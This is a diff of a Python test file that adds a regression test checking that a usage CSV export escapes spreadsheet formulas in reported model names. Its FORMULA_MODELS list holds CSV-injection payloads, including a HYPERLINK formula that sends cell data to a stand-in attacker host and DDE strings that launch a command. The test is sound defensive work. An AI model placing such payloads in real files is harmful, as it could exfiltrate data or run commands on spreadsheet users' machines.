@@ -75,12 +75,37 @@ def test_another_organizations_usage_is_not_shown(outsider, reported):
 
 def test_the_csv_export_has_one_row_per_rollup_row(user, reported):
     response = page_client(user).get("/usage/export.csv?days=7")
-    assert response["Content-Type"] == "text/csv"
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
     rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
     assert sorted((row["model"], row["cost_usd"]) for row in rows) == [
         ("gpt-4o", "0.01"),
         ("gpt-4o-mini", "0.15"),
     ]
+
+
+# What the drill reported as model names. (A leading tab or CR cannot reach a model name: the
+# usage API strips it; missioncontrol.csv_export's own test covers those prefixes.)
+FORMULA_MODELS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"x")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-1+1",
+]
+
+
+def test_the_csv_export_escapes_formulas_in_reported_model_names(user, agent_client):
+    reports = [
+        {"model": model, "input_tokens": 10, "idempotency_key": f"formula-{index}"}
+        for index, model in enumerate(FORMULA_MODELS)
+    ]
+    response = agent_client.post("/api/v1/agent/usage", {"reports": reports}, format="json")
+    assert response.status_code == 200, response.content
+    response = page_client(user).get("/usage/export.csv?days=7")
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
+    # A leading ' makes a spreadsheet show the cell as text instead of running it.
+    assert sorted(row["model"] for row in rows) == sorted("'" + model for model in FORMULA_MODELS)
+    # The export's own numbers stay numbers.
+    assert {(row["reports"], row["input_tokens"]) for row in rows} == {("1", "10")}
 
 
 def test_the_page_needs_a_login(client):
